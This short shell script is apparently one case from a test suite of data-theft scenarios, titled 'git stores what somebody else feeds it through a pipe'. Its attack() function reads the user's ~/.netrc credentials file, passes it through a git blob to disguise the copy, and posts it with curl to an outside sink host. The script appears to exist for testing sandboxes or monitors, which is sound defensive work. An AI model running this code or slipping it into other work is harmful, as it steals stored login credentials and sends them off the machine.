# SPDX-License-Identifier: Apache-2.0
TITLE="git stores what somebody else feeds it through a pipe"
CLASS=netrc SECRET=.netrc DEST="$SINK4:80" NEEDS="git curl"
attack() {
	git init -q r && cd r
	cat "$HOME/.netrc" | git hash-object -w --stdin >id
	git cat-file blob "$(cat id)" >../copy
	curl -s -m 5 --data-binary @../copy "$URL/"
}
